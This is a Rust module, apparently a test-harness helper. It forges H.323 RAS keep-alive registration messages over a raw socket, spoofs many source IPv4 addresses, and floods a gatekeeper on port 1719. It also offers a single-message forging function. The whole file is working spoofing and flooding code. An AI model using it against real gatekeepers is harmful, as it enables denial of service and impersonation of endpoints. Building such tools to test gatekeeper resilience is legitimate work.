//! A flood of made-up keep-alives from many sources, by a raw socket.

use std::{
    net::{Ipv4Addr, SocketAddr, SocketAddrV4},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::JoinHandle,
};

use anyhow::{Context, Result};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use crate::{
    Netns,
    messages::{self, Identity},
};

const EID: &str = "99999999_endp";
const RAW: i32 = 255;

/// Goes on until dropped.
#[derive(Debug)]
pub struct Flood {
    sent: Arc<AtomicU64>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl Flood {
    /// Starts it: `sources` addresses from `first` on, each message with another endpointIdentifier.
    ///
    /// # Errors
    /// When there is no raw socket to be had.
    pub fn start(
        netns: &Netns,
        first: Ipv4Addr,
        sources: u32,
        gatekeeper: SocketAddrV4,
    ) -> Result<Self> {
        let socket = raw(netns)?;
        let sent = Arc::new(AtomicU64::new(0));
        let stop = Arc::new(AtomicBool::new(false));
        let (ours, end) = (Arc::clone(&sent), Arc::clone(&stop));
        let thread = std::thread::spawn(move || {
            pour(&socket, (first, sources), gatekeeper, &ours, &end);
        });
        Ok(Self {
            sent,
            stop,
            thread: Some(thread),
        })
    }

    /// How many were sent so far.
    #[must_use]
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// Sends one message in the name of `from`, whoever that is.
///
/// # Errors
/// When there is no raw socket to be had, or the kernel does not send it.
pub fn forge(netns: &Netns, from: SocketAddrV4, to: SocketAddrV4, payload: &[u8]) -> Result<()> {
    let host = SockAddr::from(SocketAddr::V4(SocketAddrV4::new(*to.ip(), 0)));
    raw(netns)?
        .send_to(&datagram(from, to, payload), &host)
        .context("sending a forged message")?;
    Ok(())
}

fn raw(netns: &Netns) -> Result<Socket> {
    let open = || {
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))?;
        socket.set_header_included_v4(true)?;
        Ok(socket)
    };
    let socket: std::io::Result<Socket> = netns.run(open)?;
    socket.context("making a raw socket")
}

fn pour(
    socket: &Socket,
    (first, sources): (Ipv4Addr, u32),
    gatekeeper: SocketAddrV4,
    sent: &AtomicU64,
    stop: &AtomicBool,
) {
    let to = SockAddr::from(SocketAddr::V4(SocketAddrV4::new(*gatekeeper.ip(), 0)));
    let ras = SocketAddr::from((first, 1719));
    let who = Identity {
        ras,
        aliases: vec!["flood".into()],
        secured: false,
        time_to_live: None,
    };
    let mut message = messages::light_rrq(&who, 1, EID);
    let wide: Vec<u8> = EID.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let eid_at = message.windows(wide.len()).position(|w| w == wide);
    let mut n: u32 = 0;
    while !stop.load(Ordering::Relaxed) {
        let source = Ipv4Addr::from(u32::from(first) + n % sources);
        if let Some(at) = eid_at {
            for (i, digit) in format!("{n:08}").bytes().take(8).enumerate() {
                message[at + 2 * i + 1] = digit;
            }
        }
        let datagram = datagram(SocketAddrV4::new(source, 1719), gatekeeper, &message);
        // A full queue loses some, as a flood does.
        if socket.send_to(&datagram, &to).is_ok() {
            sent.fetch_add(1, Ordering::Relaxed);
        }
        n = n.wrapping_add(1) % 100_000_000;
    }
}

/// An IPv4 UDP datagram; the kernel fills in the header checksum.
#[must_use]
pub fn datagram(from: SocketAddrV4, to: SocketAddrV4, payload: &[u8]) -> Vec<u8> {
    let udp_len = (8 + payload.len()) as u16;
    let mut d = vec![0x45, 0];
    d.extend((20 + udp_len).to_be_bytes());
    d.extend([0, 0, 0x40, 0, 64, 17, 0, 0]);
    d.extend(from.ip().octets());
    d.extend(to.ip().octets());
    d.extend(from.port().to_be_bytes());
    d.extend(to.port().to_be_bytes());
    d.extend(udp_len.to_be_bytes());
    d.extend([0, 0]);
    d.extend(payload);
    let mut sum = 17 + u32::from(udp_len);
    for pair in d[12..].chunks(2) {
        sum += u32::from(pair[0]) << 8 | u32::from(*pair.get(1).unwrap_or(&0));
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    let checksum = match !(sum as u16) {
        0 => 0xffff,
        other => other,
    };
    d[26..28].copy_from_slice(&checksum.to_be_bytes());
    d
}
